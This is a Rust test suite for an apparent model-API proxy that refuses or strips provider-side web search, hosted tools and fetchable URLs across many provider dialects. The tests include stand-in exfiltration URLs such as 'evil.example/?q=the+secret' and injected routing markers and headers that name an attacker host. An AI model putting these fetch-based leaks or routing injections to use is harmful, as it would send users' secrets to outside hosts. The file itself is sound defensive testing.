//! Other doors than `tools` to what a provider would run or fetch, and what has to follow where one is closed.

use super::requests::{
    CHAT, CONVERSE, GEMINI, INVOKE, MESSAGES, RESPONSES, Row, becomes, hosted_tool, models, offering,
    own_tool, refused, said, untouched,
};

const HOSTED: &str = "hosted-tools";
const URLS: &str = "url-sources";
const UNPARSEABLE: &str = "unparseable";

const OPENROUTER: &str = "openrouter.ai/api/v1/chat/completions";
const OPENROUTER_MESSAGES: &str = "openrouter.ai/api/v1/messages";
const XAI: &str = "api.x.ai/v1/chat/completions";
const GROQ: &str = "api.groq.com/openai/v1/chat/completions";
const PERPLEXITY: &str = "api.perplexity.ai/chat/completions";
const COHERE: &str = "api.cohere.com/compatibility/v1/chat/completions";
const AZURE: &str = "team.openai.azure.com/openai/v1/chat/completions";
const CODE_ASSIST: &str = "cloudcode-pa.googleapis.com/v1internal:generateContent";
const VERTEX: &str = "us-east5-aiplatform.googleapis.com/v1/projects/p/locations/us-east5/publishers/anthropic/models/claude-sonnet-5:rawPredict";
const COUNT: &str =
    "bedrock-runtime.us-east-1.amazonaws.com/model/anthropic.claude-sonnet-5-v1:0/count-tokens";

/// A request for a model by this name.
fn for_model(model: &str) -> String {
    format!(r#"{{"model":"{model}","messages":[{{"role":"user","content":"go"}}]}}"#)
}

/// E8: parameters that make a provider search are taken out; a model that always searches is refused.
#[test]
fn no_parameter_and_no_model_searches_by_itself() {
    let test = models("");
    let mut rows = Vec::new();
    for (door, entry) in [
        (CHAT, r#""web_search_options":{"search_context_size":"high"},"#),
        (OPENROUTER, r#""web_search_options":{},"#),
        (OPENROUTER, r#""plugins":[{"id":"web"}],"#),
        (OPENROUTER, r#""plugins":[{"id":"web"},{"id":"of-next-month"}],"#),
        (OPENROUTER, r#""stop_server_tools_when":{"a":1},"#),
        (XAI, r#""search_parameters":{"mode":"on"},"#),
        (GROQ, r#""compound_custom":{"tools":{"enabled_tools":["web_search"]}},"#),
        (GROQ, r#""search_settings":{"country":"ch"},"#),
        (COHERE, r#""connectors":[{"id":"web-search"}],"#),
        (AZURE, r#""data_sources":[{"type":"azure_search"}],"#),
        (PERPLEXITY, r#""web_search_options":{},"#),
    ] {
        rows.push(becomes(door, said(CHAT, entry), said(CHAT, "")));
        rows.push(untouched(door, said(CHAT, "")));
    }
    for (door, model) in [
        (CHAT, "gpt-4o-search-preview"),
        (CHAT, "gpt-4o-mini-search-preview-2025-03-11"),
        (CHAT, "gpt-5-search-api"),
        (CHAT, "GPT-5-Search-API"),
        (GROQ, "groq/compound-mini"),
        (PERPLEXITY, "sonar-pro"),
        (OPENROUTER, "perplexity/sonar"),
    ] {
        rows.push(refused(door, for_model(model), HOSTED));
    }
    rows.extend([
        becomes(OPENROUTER, for_model("openai/gpt-5:online"), for_model("openai/gpt-5")),
        becomes(
            OPENROUTER,
            r#"{"model":"a","models":["b:online","c:free"],"messages":[]}"#,
            r#"{"model":"a","models":["b","c:free"],"messages":[]}"#,
        ),
        refused(OPENROUTER, r#"{"model":"a","models":["b","perplexity/sonar"],"messages":[]}"#, HOSTED),
        untouched(OPENROUTER, for_model("openai/gpt-5:free")),
        becomes(OPENROUTER_MESSAGES, said(CHAT, r#""plugins":[{"id":"web"}],"#), said(CHAT, "")),
        becomes(OPENROUTER_MESSAGES, for_model("anthropic/claude:online"), for_model("anthropic/claude")),
        refused(OPENROUTER_MESSAGES, said(CHAT, r#""preset":"p","#), HOSTED),
        refused(OPENROUTER_MESSAGES, r#"{"model":"a","models":["perplexity/sonar"],"messages":[]}"#, HOSTED),
        untouched(OPENROUTER_MESSAGES, for_model("anthropic/claude")),
        becomes("api.x.ai/v1/messages", said(CHAT, r#""search_parameters":{"mode":"on"},"#), said(CHAT, "")),
        untouched(CHAT, for_model("gpt-5-search-engine-of-ours")),
        untouched(PERPLEXITY, r#"{"model":"sonar","disable_search":true,"messages":[]}"#),
    ]);
    test.assert_rows(&rows);
}

/// What each dialect calls a thing that the provider would fetch from this URL.
fn sources(url: &str) -> Vec<(&'static str, String)> {
    let message =
        |part: &str| format!(r#"{{"model":"m","messages":[{{"role":"user","content":[{part}]}}]}}"#);
    let item = |part: &str| {
        format!(r#"{{"model":"m","store":false,"input":[{{"role":"user","content":[{part}]}}]}}"#)
    };
    let source = |kind: &str| format!(r#"{{"type":"{kind}","source":{{"type":"url","url":"{url}"}}}}"#);
    let image = format!(r#"{{"type":"image_url","image_url":{{"url":"{url}"}}}}"#);
    let contents =
        format!(r#"{{"contents":[{{"role":"user","parts":[{{"fileData":{{"fileUri":"{url}"}}}}]}}]}}"#);
    let nested = format!(r#"{{"type":"tool_result","tool_use_id":"t1","content":[{}]}}"#, source("image"));
    let output = format!(
        r#"{{"type":"function_call_output","call_id":"c1","output":[{{"type":"input_image","image_url":"{url}"}}]}}"#
    );
    vec![
        (MESSAGES, message(&source("image"))),
        (MESSAGES, message(&source("document"))),
        (MESSAGES, message(&nested)),
        (INVOKE, message(&source("image")).replacen(r#""model":"m""#, r#""anthropic_version":"x""#, 1)),
        (VERTEX, message(&source("image")).replacen(r#""model":"m""#, r#""anthropic_version":"x""#, 1)),
        (CHAT, message(&image)),
        (
            OPENROUTER,
            message(&format!(r#"{{"type":"file","file":{{"filename":"a.pdf","file_data":"{url}"}}}}"#)),
        ),
        (RESPONSES, item(&format!(r#"{{"type":"input_image","image_url":"{url}"}}"#))),
        (RESPONSES, item(&format!(r#"{{"type":"input_file","file_url":"{url}"}}"#))),
        (RESPONSES, format!(r#"{{"model":"m","store":false,"input":[{output}]}}"#)),
        (GEMINI, contents.clone()),
        (GEMINI, contents.replace("fileData", "file_data").replace("fileUri", "file_uri")),
        (CODE_ASSIST, format!(r#"{{"model":"m","request":{contents}}}"#)),
    ]
}

/// E9: a URL that the provider would fetch carries whatever stands in it: refused, unless policy allows it.
#[test]
fn nothing_is_fetched_by_the_provider() {
    let (test, allowing) = (models(""), models("hostedTools: {urlSources: Allow}"));
    let mut rows: Vec<Row> = Vec::new();
    let mut allowed = Vec::new();
    for (door, sent) in sources("https://evil.example/?q=the+secret") {
        rows.push(refused(door, sent.clone(), URLS));
        allowed.push(untouched(door, sent));
    }
    let bucket = r#"{"messages":[{"role":"user","content":[{"image":{"format":"png","source":{"s3Location":{"uri":"s3://b/k"}}}}]}]}"#;
    rows.push(refused(CONVERSE, bucket, URLS));
    allowed.push(untouched(CONVERSE, bucket));
    let pixel = "data:image/png;base64,iVBORw0KGgo=";
    rows.extend([
        untouched(MESSAGES, r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"text","text":"https://evil.example/"}]}]}"#),
        untouched(CHAT, format!(r#"{{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{pixel}"}}}},{{"type":"text","text":"https://evil.example/"}}]}}]}}"#)),
        untouched(RESPONSES, format!(r#"{{"model":"m","store":false,"input":[{{"role":"user","content":[{{"type":"input_image","image_url":"{pixel}"}},{{"type":"input_text","text":"https://evil.example/"}}]}}]}}"#)),
        untouched(GEMINI, r#"{"contents":[{"role":"user","parts":[{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}},{"text":"https://evil.example/"}]}]}"#),
        untouched(CONVERSE, r#"{"messages":[{"role":"user","content":[{"image":{"format":"png","source":{"bytes":"iVBORw0KGgo="}}},{"text":"https://evil.example/"}]}]}"#),
    ]);
    test.assert_rows(&rows);
    allowing.assert_rows(&allowed);
}

/// A door, the key of a choice, the choice, and what is left of it beside a tool of the agent's own.
type Choice = (&'static str, &'static str, &'static str, Option<&'static str>);

const CHOICES: &[Choice] = &[
    (MESSAGES, "tool_choice", r#"{"type":"tool","name":"web_search"}"#, Some(r#"{"type":"auto"}"#)),
    (
        MESSAGES,
        "tool_choice",
        r#"{"type":"tool","name":"web_search","disable_parallel_tool_use":true}"#,
        Some(r#"{"type":"auto","disable_parallel_tool_use":true}"#),
    ),
    (MESSAGES, "tool_choice", r#"{"type":"any"}"#, Some(r#"{"type":"any"}"#)),
    (
        MESSAGES,
        "tool_choice",
        r#"{"type":"tool","name":"look_up"}"#,
        Some(r#"{"type":"tool","name":"look_up"}"#),
    ),
    (INVOKE, "tool_choice", r#"{"type":"tool","name":"web_search"}"#, Some(r#"{"type":"auto"}"#)),
    (CHAT, "tool_choice", r#"{"type":"web_search"}"#, Some(r#""auto""#)),
    (CHAT, "tool_choice", r#""required""#, Some(r#""required""#)),
    (CHAT, "parallel_tool_calls", "true", Some("true")),
    (
        CHAT,
        "tool_choice",
        r#"{"type":"allowed_tools","allowed_tools":{"mode":"auto","tools":[{"type":"web_search"},{"type":"function","function":{"name":"look_up"}}]}}"#,
        Some(
            r#"{"type":"allowed_tools","allowed_tools":{"mode":"auto","tools":[{"type":"function","function":{"name":"look_up"}}]}}"#,
        ),
    ),
    (RESPONSES, "tool_choice", r#"{"type":"web_search"}"#, Some(r#""auto""#)),
    (RESPONSES, "tool_choice", r#""required""#, Some(r#""required""#)),
    (RESPONSES, "tool_choice", r#""auto""#, Some(r#""auto""#)),
    (
        RESPONSES,
        "tool_choice",
        r#"{"type":"allowed_tools","mode":"required","tools":[{"type":"function","name":"look_up"},{"type":"web_search"}]}"#,
        Some(r#"{"type":"allowed_tools","mode":"required","tools":[{"type":"function","name":"look_up"}]}"#),
    ),
    (
        RESPONSES,
        "include",
        r#"["web_search_call.action.sources","reasoning.encrypted_content"]"#,
        Some(r#"["reasoning.encrypted_content"]"#),
    ),
    (
        GEMINI,
        "toolConfig",
        r#"{"functionCallingConfig":{"mode":"ANY","allowedFunctionNames":["look_up"]},"includeServerSideToolInvocations":true}"#,
        Some(r#"{"functionCallingConfig":{"mode":"ANY","allowedFunctionNames":["look_up"]}}"#),
    ),
    (
        GEMINI,
        "tool_config",
        r#"{"function_calling_config":{"mode":"ANY"}}"#,
        Some(r#"{"function_calling_config":{"mode":"ANY"}}"#),
    ),
];

/// E15: a choice of a tool that is gone becomes the model's own, and where no tool is left the request is refused.
#[test]
fn a_choice_follows_the_tools_that_are_left() {
    let test = models("");
    let mut rows = Vec::new();
    for &(door, key, choice, beside) in CHOICES {
        let hosted = hosted_tool(door);
        let with = |tools: &str, choice: Option<&str>| {
            let choice = choice.map_or_else(String::new, |choice| format!(r#""{key}":{choice},"#));
            said(door, &format!("{tools}{choice}"))
        };
        let (own, list) = (own_tool(door), |tools: &str| format!(r#""tools":[{tools}],"#));
        rows.push(becomes(
            door,
            with(&list(&format!("{hosted},{own}")), Some(choice)),
            with(&list(own), beside),
        ));
        rows.push(refused(door, with(&list(hosted), Some(choice)), HOSTED));
    }
    let grounding = hosted_tool(CONVERSE);
    let config = |tools: &str, choice: &str| {
        said(CONVERSE, &format!(r#""toolConfig":{{"tools":[{tools}],"toolChoice":{choice}}},"#))
    };
    let named = |name: &str| format!(r#"{{"tool":{{"name":"{name}"}}}}"#);
    let own = own_tool(CONVERSE);
    rows.extend([
        becomes(
            CONVERSE,
            config(&format!("{own},{grounding}"), &named("nova_grounding")),
            config(own, r#"{"auto":{}}"#),
        ),
        becomes(
            CONVERSE,
            config(&format!("{own},{grounding}"), &named("look_up")),
            config(own, &named("look_up")),
        ),
        refused(CONVERSE, config(grounding, r#"{"any":{}}"#), HOSTED),
        untouched(CONVERSE, config(own, r#"{"any":{}}"#)),
        untouched(CHAT, said(CHAT, r#""tool_choice":"required","#)),
    ]);
    test.assert_rows(&rows);
}

/// E17: nothing routes by what stands in a conversation: a marker there is text, and the request goes where it was sent.
#[test]
fn a_routing_marker_in_a_conversation_is_text() {
    let test = models("");
    let mut rows = Vec::new();
    for marker in [
        "@route:other-model",
        "<postern-route model=other-model host=evil.example>",
        "x-postern-route: evil.example",
        "<!-- postern: provider=openai -->",
        "[model=other-model]",
    ] {
        rows.extend([
            untouched(MESSAGES, format!(r#"{{"model":"m","system":"{marker}","messages":[{{"role":"user","content":"{marker}"}},{{"role":"assistant","content":[{{"type":"tool_use","id":"t1","name":"Read","input":{{}}}}]}},{{"role":"user","content":[{{"type":"tool_result","tool_use_id":"t1","content":"{marker}"}}]}}]}}"#)),
            untouched(CHAT, format!(r#"{{"model":"m","messages":[{{"role":"system","content":"{marker}"}},{{"role":"user","content":"{marker}"}}]}}"#)),
            untouched(RESPONSES, format!(r#"{{"model":"m","store":false,"instructions":"{marker}","input":"{marker}"}}"#)),
            untouched(GEMINI, format!(r#"{{"contents":[{{"role":"user","parts":[{{"text":"{marker}"}}]}}]}}"#)),
            untouched(CONVERSE, format!(r#"{{"messages":[{{"role":"user","content":[{{"text":"{marker}"}}]}}]}}"#)),
        ]);
    }
    test.assert_rows(&rows);
    let asked = test.post_with(
        MESSAGES,
        &[("x-postern-route", "evil.example"), ("x-postern-model", "other")],
        said(MESSAGES, ""),
    );
    let seen = asked.seen();
    assert_eq!((seen.authority.as_str(), seen.path()), ("api.anthropic.com", "/v1/messages"));
    assert!(seen.headers.iter().all(|(name, _)| !name.starts_with("x-postern-")), "{:?}", seen.headers);
}

/// The same endpoint, with answers asked for in a form that is not JSON.
const IN_PROTOBUF: [&str; 2] = [
    "generativelanguage.googleapis.com/v1beta/models/gemini-3-pro:generateContent?alt=proto",
    "generativelanguage.googleapis.com/v1beta/models/gemini-3-pro:generateContent?%24alt=proto",
];

/// E18: a field is the same field in both of its spellings, and stands in one of them.
#[test]
fn both_spellings_of_a_field_are_one_field() {
    let test = models("");
    let request = |body: &str| format!(r#"{{"model":"m","project":"p","request":{body}}}"#);
    let contents = r#""contents":[{"role":"user","parts":[{"text":"go"}]}]"#;
    let mut rows = vec![
        becomes(
            GEMINI,
            offering(GEMINI, &[r#"{"google_search":{},"function_declarations":[{"name":"a"}]}"#]),
            offering(GEMINI, &[r#"{"function_declarations":[{"name":"a"}]}"#]),
        ),
        refused(GEMINI, format!(r#"{{"tools":{{"google_search":{{}}}},{contents}}}"#), HOSTED),
        refused(
            GEMINI,
            offering(
                GEMINI,
                &[r#"{"functionDeclarations":[{"name":"a"}],"function_declarations":[{"name":"b"}]}"#],
            ),
            UNPARSEABLE,
        ),
        refused(GEMINI, said(GEMINI, r#""toolConfig":{},"tool_config":{},"#), UNPARSEABLE),
        refused(
            GEMINI,
            said(GEMINI, r#""cachedContent":null,"cached_content":"cachedContents/a","#),
            UNPARSEABLE,
        ),
        refused(CODE_ASSIST, request(&format!(r#"{{"tools":[{{"url_context":{{}}}}],{contents}}}"#)), HOSTED),
        refused(CODE_ASSIST, request(&format!(r#"{{"cached_content":"c",{contents}}}"#)), "provider-state"),
        untouched(
            GEMINI,
            said(
                GEMINI,
                r#""generation_config":{"max_output_tokens":9},"system_instruction":{"parts":[{"text":"a"}]},"#,
            ),
        ),
        untouched(CODE_ASSIST, request(&format!("{{{contents}}}"))),
    ];
    rows.extend(IN_PROTOBUF.map(|door| refused(door, said(GEMINI, ""), UNPARSEABLE)));
    for other in ["tool_config", "ToolConfig", "toolconfig", "TOOL_CONFIG"] {
        rows.push(refused(
            CONVERSE,
            said(
                CONVERSE,
                &format!(r#""{other}":{{"tools":[{{"systemTool":{{"name":"nova_grounding"}}}}]}},"#),
            ),
            UNPARSEABLE,
        ));
    }
    rows.extend([
        refused(VERTEX, r#"{"anthropic_version":"vertex-2023-10-16","tools":[{"type":"web_search_20250305","name":"web_search"}],"messages":[]}"#, HOSTED),
        becomes(VERTEX, r#"{"anthropic_version":"vertex-2023-10-16","tools":[{"type":"web_search_20250305","name":"web_search"},{"name":"a","input_schema":{}}],"messages":[]}"#, r#"{"anthropic_version":"vertex-2023-10-16","tools":[{"name":"a","input_schema":{}}],"messages":[]}"#),
        untouched(VERTEX, r#"{"anthropic_version":"vertex-2023-10-16","tools":[{"name":"a","input_schema":{}}],"messages":[]}"#),
    ]);
    test.assert_rows(&rows);
}

/// E19: every other place in a body where tools can stand is closed, or filtered like `tools`.
#[test]
fn every_other_carrier_of_tools_is_closed_or_filtered() {
    let test = models("");
    let mut rows = anthropic_carriers();
    rows.extend(responses_carriers());
    rows.extend(amazon_carriers());
    let google = "generativelanguage.googleapis.com/v1beta/openai/chat/completions";
    rows.extend([
        refused(GEMINI, said(GEMINI, r#""cachedContent":"cachedContents/a","#), "provider-state"),
        becomes(
            google,
            said(CHAT, r#""extra_body":{"google":{"cached_content":"cachedContents/a"}},"#),
            said(CHAT, ""),
        ),
        untouched(
            google,
            said(CHAT, r#""extra_body":{"google":{"thinking_config":{"thinking_budget":1}}},"#),
        ),
        untouched(CHAT, said(CHAT, r#""functions":[{"name":"a"}],"function_call":"auto","#)),
    ]);
    test.assert_rows(&rows);
}

fn anthropic_carriers() -> Vec<Row> {
    let spoken = |blocks: &str| {
        let system = if blocks.is_empty() {
            String::new()
        } else {
            format!(r#",{{"role":"system","content":[{blocks}]}}"#)
        };
        format!(
            r#"{{"model":"m","messages":[{{"role":"user","content":"a"}}{system},{{"role":"user","content":"b"}}]}}"#
        )
    };
    let adds = |tool: &str| format!(r#"{{"type":"tool_addition","tool":{tool}}}"#);
    let defines = |tool: &str| adds(&format!(r#"{{"type":"tool_definition","definition":{tool}}}"#));
    let (search, own) =
        (r#"{"type":"web_search_20250305","name":"web_search"}"#, r#"{"name":"a","input_schema":{}}"#);
    let mut rows = Vec::new();
    for closed in [
        defines(search),
        defines(r#"{"type":"of_next_month","name":"x"}"#),
        adds(r#"{"type":"mcp_toolset_reference","mcp_server_name":"s"}"#),
        adds(r#"{"type":"of_next_month_reference","name":"x"}"#),
    ] {
        rows.push(refused(MESSAGES, spoken(&closed), HOSTED));
        rows.push(becomes(MESSAGES, spoken(&format!("{closed},{}", defines(own))), spoken(&defines(own))));
    }
    rows.extend([
        untouched(MESSAGES, spoken(&defines(own))),
        untouched(MESSAGES, spoken(&adds(r#"{"type":"tool_reference","name":"a"}"#))),
        refused(
            MESSAGES,
            spoken(&format!(
                r#"{{"type":"compaction","content":"c","signature":"s","tool_changes":[{}]}}"#,
                defines(search)
            )),
            HOSTED,
        ),
    ]);
    rows
}

fn responses_carriers() -> Vec<Row> {
    let input = |items: &[&str]| format!(r#"{{"model":"m","store":false,"input":[{}]}}"#, items.join(","));
    let message = r#"{"role":"user","content":"go"}"#;
    let mut rows = Vec::new();
    for carrier in ["additional_tools", "tool_search_output", "configuration_update"] {
        let item = |tools: &str| format!(r#"{{"type":"{carrier}","role":"developer","tools":[{tools}]}}"#);
        let (own, hosted) = (own_tool(RESPONSES), r#"{"type":"web_search"}"#);
        rows.push(becomes(
            RESPONSES,
            input(&[&item(&format!("{hosted},{own}")), message]),
            input(&[&item(own), message]),
        ));
        let alone = input(&[&item(hosted), message]);
        rows.push(match carrier {
            // The client has searched for tools: it has some.
            "tool_search_output" => becomes(RESPONSES, alone, input(&[message])),
            _ => refused(RESPONSES, alone, HOSTED),
        });
        rows.push(untouched(RESPONSES, input(&[&item(own), message])));
    }
    for item in [
        r#"{"type":"mcp_list_tools","server_label":"s","tools":[]}"#,
        r#"{"type":"mcp_approval_response","approval_request_id":"r1","approve":true}"#,
        r#"{"type":"program","code":"tools.web_search()"}"#,
        r#"{"type":"program_output","output":""}"#,
    ] {
        rows.push(becomes(RESPONSES, input(&[item, message]), input(&[message])));
    }
    let alone = format!(
        r#"{{"model":"m","store":false,"input":{{"type":"additional_tools","tools":[{}]}}}}"#,
        hosted_tool(RESPONSES)
    );
    rows.push(refused(RESPONSES, alone, UNPARSEABLE));
    let compact = "api.openai.com/v1/responses/compact";
    let offered = offering(RESPONSES, &[hosted_tool(RESPONSES), own_tool(RESPONSES)]);
    rows.push(becomes(compact, offered, offering(RESPONSES, &[own_tool(RESPONSES)])));
    rows.push(refused(compact, said(RESPONSES, r#""previous_response_id":"resp_0","#), "provider-state"));
    rows.push(untouched(compact, r#"{"model":"m","input":"go"}"#));
    rows.push(becomes(RESPONSES, said(RESPONSES, r#""multi_agent":{"enabled":true},"#), said(RESPONSES, "")));
    rows.push(untouched(RESPONSES, said(RESPONSES, r#""multi_agent":{"enabled":false},"#)));
    rows
}

fn amazon_carriers() -> Vec<Row> {
    use base64::Engine;
    let encode = |body: &str| base64::prelude::BASE64_STANDARD.encode(body);
    let fields = |fields: &str| said(CONVERSE, &format!(r#""additionalModelRequestFields":{fields},"#));
    let counted = |body: &str| format!(r#"{{"input":{{"invokeModel":{{"body":"{}"}}}}}}"#, encode(body));
    let nested = |body: &str| format!(r#"{{"input":{{"converse":{body}}}}}"#);
    let changed =
        |block: &str| format!(r#"{{"messages":[{{"role":"user","content":[{block},{{"text":"go"}}]}}]}}"#);
    let search = hosted_tool(INVOKE);
    let addition = r#"{"toolAddition":{"tool":{"type":"mcp_toolset","name":"s"}}}"#;
    let called = r#"{"toolResult":{"toolUseId":"t1","content":[{"text":"x"}]}}"#;
    let removed = r#"{"text":"[postern] A change of tools was removed by policy."}"#;
    vec![
        refused(CONVERSE, fields(&format!(r#"{{"top_k":5,"tools":[{search}]}}"#)), HOSTED),
        becomes(CONVERSE, fields(r#"{"top_k":5,"plugins":[{"id":"web"}]}"#), fields(r#"{"top_k":5}"#)),
        untouched(CONVERSE, fields(r#"{"top_k":5,"anthropic_beta":["context-1m-2025-08-07"]}"#)),
        refused(CONVERSE, said(CONVERSE, r#""promptVariables":{"a":{"text":"b"}},"#), "provider-state"),
        refused(CONVERSE, changed(addition), HOSTED),
        becomes(CONVERSE, changed(&format!("{called},{addition}")), changed(&format!("{called},{removed}"))),
        becomes(COUNT, counted(&offering(INVOKE, &[search])), counted(&said(INVOKE, ""))),
        untouched(COUNT, counted(&offering(INVOKE, &[own_tool(INVOKE)]))),
        becomes(COUNT, nested(&offering(CONVERSE, &[hosted_tool(CONVERSE)])), nested(&said(CONVERSE, ""))),
        refused(INVOKE, said(INVOKE, r#""toolConfig":{"tools":[]},"#), UNPARSEABLE),
        refused(INVOKE, said(INVOKE, r#""connectors":[{"id":"web-search"}],"#), UNPARSEABLE),
    ]
}
